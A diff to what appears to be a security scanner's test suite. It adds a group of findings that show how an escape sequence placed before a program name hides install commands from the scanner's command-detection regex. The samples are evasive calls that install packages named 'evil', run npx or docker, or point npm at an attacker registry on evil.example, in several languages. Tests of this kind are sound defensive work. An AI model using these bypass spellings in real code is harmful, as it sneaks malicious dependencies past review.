@@ -12,6 +12,30 @@ const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.
 const LIST = (list: string, more = ''): FindingRow => ['src/check.py', `import subprocess\nsubprocess.run([${list}]${more})`];
 const ENV = (name: string, value: string): FindingRow => ['src/check.py', `import os\nos.environ['${name}'] = '${value}'`];
 
+// E0 (critical): an escape sequence in the string literal just before the program's name (`\n`, `\t`, `\x20`,
+// `\u0020`): the string holds a newline, tab or space, so the shell starts the program, but PACKAGE_COMMAND's
+// look-behind (`[\s"'\x60;&|(/,\[]`) sees the escape's last letter (`n`, `t`, `0`) and reads no command at all. Every
+// rule of the command reading falls with it: a fetching verb, npx, pip, go install, docker run, a registry option, a
+// manager's environment given to the command. Any language, any process call that takes a command string.
+const ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM: FindingRow[] = [
+  SYSTEM('echo ok\\nnpm install evil'),
+  SYSTEM('true;\\tnpm install evil'),
+  SYSTEM('true;\\x20npm install evil'),
+  ['src/check.js', "execSync('cd src &&\\u0020npm install evil')"],
+  ['src/check.js', "execSync('echo ok\\nnpm install evil')"],
+  ['src/check.js', 'execSync(`echo ok\\nnpx evil`)'],
+  ['src/check.go', 'exec.Command("sh", "-c", "echo ok\\nnpm install evil").Run()'],
+  ['src/check.rs', 'Command::new("sh").arg("-c").arg("echo ok\\nnpm install evil").status()?;'],
+  ['src/check.rb', 'system("echo ok\\nnpm install evil")'],
+  ['src/check.py', "import subprocess\nsubprocess.run('echo ok\\nnpm install evil', shell=True)"],
+  SYSTEM('echo ok\\nnpx evil'),
+  SYSTEM('echo ok\\npip install evil'),
+  SYSTEM('echo ok\\ngo install evil.example/x@latest'),
+  SYSTEM('echo ok\\ndocker run evil/img'),
+  SYSTEM('echo ok\\nnpm test --registry=https://evil.example/'),
+  SYSTEM('echo ok\\nnpm_config_registry=https://evil.example/ npm ci'),
+];
+
 // A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
 // shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
 // variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
@@ -349,6 +373,7 @@ const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
 ];
 
 describeFindings('attack-48', [
+  ['E0 escaped separator before the program', ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM],
   ['A spellings', SPELLINGS],
   ['B backtick calls', BACKTICK_CALLS],
   ['C deno remote modules', DENO_REMOTE],
